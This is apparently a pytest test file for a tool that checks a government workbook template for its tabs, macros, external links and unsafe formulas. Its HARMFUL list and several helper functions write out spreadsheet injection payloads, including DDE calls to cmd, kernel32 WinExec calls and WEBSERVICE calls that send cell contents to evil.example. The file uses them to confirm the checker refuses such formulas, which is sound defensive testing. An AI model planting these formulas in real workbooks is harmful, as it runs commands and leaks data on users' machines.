"""DWP's workbook of the Monthly Performance Return as a template: its tabs, the check of one that is dropped
in, and its pages to be looked at (MI2, J8.02, J8.03)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime

import openpyxl
import pypdf
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.datavalidation import DataValidation

from jfs_desktop.documents.marks.template_findings import Examination, Severity
from jfs_desktop.documents.samples.template_fields import kinds
from jfs_desktop.documents.workbook.workbook import WorkbookRefused, pages, tabs_of
from jfs_desktop.documents.workbook.workbook_check import examine
from jfs_desktop.paths import resource
from jfs_desktop.store.profiles import load_programme
from tests.documents.made_workbooks import MPR, TABS, book, saved

AT = datetime(2021, 6, 4, 9, 30, tzinfo=UTC)
KIND = kinds()[MPR]


def checked(content: bytes) -> Examination:
    return examine(content, "dwp.xlsx", KIND, "en", TABS)


def shipped() -> bytes:
    return resource("documents", KIND.shipped("en")).read_bytes()


def test_mi2_the_shipped_workbook_has_the_four_tabs_and_instructions() -> None:
    programme = load_programme("jfs-2021")
    (of_return,) = [one for one in programme.returns if one.id == KIND.of_return]
    assert of_return.parts == TABS
    tabs = tabs_of(shipped())
    assert tuple(tab.title for tab in tabs) == TABS
    told = "\n".join(" ".join(row) for row in tabs[0].rows)
    for said in (*TABS, "15th", "JAGGAER", "Performance Manager", programme.name):
        assert said in told, said
    assert [row[1] for row in tabs[3].rows[1:]] == ["CSS 3", "CSS 4", "CSS 5"]
    seen = checked(shipped())
    assert (seen.findings, seen.sound, seen.sample) == ((), True, shipped())


def test_the_shipped_workbook_reads_well_for_everybody_and_names_no_computer() -> None:
    """A header row that stays in view, no cell that spans others, one table a tab, paper A4, no macros, dates
    or names of whoever made it."""
    opened = openpyxl.load_workbook(io.BytesIO(shipped()))
    for sheet in opened.worksheets:
        assert not sheet.merged_cells.ranges and sheet.page_setup.paperSize == 9
        if sheet.title != TABS[0]:
            assert sheet.freeze_panes == "A2"
            assert all(cell.value and cell.font.bold for cell in sheet[1])
    with zipfile.ZipFile(io.BytesIO(shipped())) as package:
        core = package.read("docProps/core.xml").decode() + package.read("docProps/app.xml").decode()
        assert "openpyxl" not in core and ">en-GB<" in core
        assert {one.date_time[0] for one in package.infolist()} == {2021}


Change = Callable[[Workbook], None]


def without_instructions(opened: Workbook) -> None:
    opened.remove(opened["Instructions"])


def misspelt(opened: Workbook) -> None:
    opened["Clerical MI return"].title = "clerical MI  return"


def silent(opened: Workbook) -> None:
    opened["Instructions"].delete_rows(1, 20)


def hidden(opened: Workbook) -> None:
    opened["Staffing"].sheet_state = "hidden"


def one_more(opened: Workbook) -> None:
    opened.create_sheet("Supply chain")["A1"] = "Month"


def turned(opened: Workbook) -> None:
    opened.move_sheet("Instructions", 3)


BROKEN: dict[str, tuple[Change, list[tuple[str, Severity]], str]] = {
    "no instructions": (without_instructions, [("tab-missing", Severity.MEND)], "‘Instructions’ is missing"),
    "a tab called otherwise": (
        misspelt,
        [("tab-missing", Severity.MEND), ("tab-too-many", Severity.MEND)],
        "‘clerical MI return’ is probably meant",
    ),
    "nothing in the instructions": (silent, [("tab-empty", Severity.MEND)], "‘Instructions’ is empty"),
    "a hidden tab": (hidden, [("tab-hidden", Severity.MEND)], "‘Staffing’ is hidden"),
    "a fifth tab": (one_more, [("tab-too-many", Severity.MEND)], "has 4 tabs, and ‘Supply chain’"),
    "another order": (turned, [("tab-order", Severity.ADVICE)], "another order"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_what_is_wrong_is_told_with_its_tab_and_paragraph(name: str) -> None:
    change, expected, said = BROKEN[name]
    opened = book()
    change(opened)
    seen = checked(saved(opened))
    assert [(one.key, one.severity) for one in seen.findings] == expected
    assert said in seen.findings[0].text and all(one.paragraph.startswith("JFS 8.0") for one in seen.findings)
    assert seen.sound is all(severity is Severity.ADVICE for _, severity in expected)


def with_part(name: str, content: bytes = b"x") -> bytes:
    held = io.BytesIO(saved(book()))
    with zipfile.ZipFile(held, "a") as package:
        package.writestr(name, content)
    return held.getvalue()


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (with_part("xl/vbaProject.bin"), "contains macros"),
        (with_part("xl/externalLinks/externalLink1.xml"), "links to other files"),
        (b"PK\x03\x04" + b"\0" * 40, "is not an Excel workbook"),
        (b"Month;Standard", "is not an Excel workbook"),
    ],
    ids=["macros", "links", "cut off", "text"],
)
def test_what_can_do_harm_or_is_no_workbook_is_refused_in_one_sentence(content: bytes, said: str) -> None:
    with pytest.raises(WorkbookRefused) as refused:
        tabs_of(content, "dwp.xlsx")
    assert said in refused.value.text and refused.value.remedy
    seen = checked(content)
    assert not seen.taken and not seen.sample


HARMFUL = [
    "=cmd|'/c calc'!A1", "=MSEXCEL|'\\..\\cmd.exe'!A1", '=WEBSERVICE("http://evil.example/"&A1)',
    "=_xlfn.WEBSERVICE(A1)",
    '=RTD("prog",,"x")', '=CALL("kernel32","WinExec","JCJ","calc",0)', '=REGISTER.ID("a","b")', "=EXEC(1)",
    '=HYPERLINK("file:///c:/x.exe","Here")', '=HYPERLINK("http"&"://evil.example","a")', "=HYPERLINK(A1)",
    '=HYPERLINK("https://www.gov.uk",HYPERLINK(B1))', "=[1]Sheet!A1", "='C:\\x\\[y.xlsx]S'!A1",
    "='[y.xlsx]S'!A1", '=CUBEVALUE("a")',
    '=SUM(1,FILTERXML(A1,"//a"))', '=IMAGE("http://evil.example/x.png")', '=INDIRECT("a")', "=Unknown(1)",
]  # fmt: skip
HARMLESS = [
    "=SUM(B2:B9)", '=IF(CSS!B2>0,"a|b","[x]!")', "=_xlfn.IFS(A1=1,2)", "='Clerical MI return'!A1", "=A1*2",
    '=HYPERLINK("https://www.gov.uk/","DWP")', '=HYPERLINK("#CSS!A1","CSS")', "=COUNTIFS(A:A,1,B:B,2)",
    "=VLOOKUP(A1,CSS!A:B,2,FALSE)",
]  # fmt: skip


@pytest.mark.parametrize("formula", HARMFUL)
def test_mi2_a_formula_that_reaches_outside_is_refused_with_its_tab_and_cell(formula: str) -> None:
    opened = book()
    opened["Staffing"]["C700"] = formula
    (only,) = checked(saved(opened)).findings
    assert (only.key, only.severity) == ("file", Severity.REFUSED)
    assert "tab ‘Staffing’, cell C700" in only.text and only.text.count(". ") == 0 and only.remedy


@pytest.mark.parametrize("formula", HARMLESS)
def test_mi2_a_formula_that_reckons_passes(formula: str) -> None:
    opened = book()
    opened["Staffing"]["C7"] = formula
    assert checked(saved(opened)).sound


def named(opened: Workbook) -> None:
    opened.defined_names["Total"] = DefinedName("Total", attr_text="cmd|'/c calc'!A1")


def validated(opened: Workbook) -> None:
    rule = DataValidation(type="custom", formula1='WEBSERVICE("http://evil.example")')
    rule.add("D4")
    opened["Staffing"].add_data_validation(rule)


def coloured(opened: Workbook) -> None:
    opened["Staffing"].conditional_formatting.add("E5", FormulaRule(["RTD(1)"]))


def linked(opened: Workbook) -> None:
    opened["Staffing"]["F6"].hyperlink = "file:///c:/x.exe"


@pytest.mark.parametrize(
    ("change", "where"), [(named, "‘Total’"), (validated, "D4"), (coloured, "E5"), (linked, "cell F6")]
)
def test_mi2_nor_does_anything_reach_outside_that_stands_in_no_cell(change: Change, where: str) -> None:
    opened = book()
    change(opened)
    (only,) = checked(saved(opened)).findings
    assert only.key == "file" and where in only.text


def test_every_tab_can_be_looked_at_on_pages() -> None:
    """Tagged, a tab a page, with its table."""
    made = pages(shipped(), KIND.name, AT)
    assert made.not_carried == ()
    read = pypdf.PdfReader(io.BytesIO(made.content)).pages
    assert len(read) == len(TABS)
    for page, title in zip(read, TABS, strict=True):
        assert title in page.extract_text()
    assert "Full-time equivalent" in read[2].extract_text()
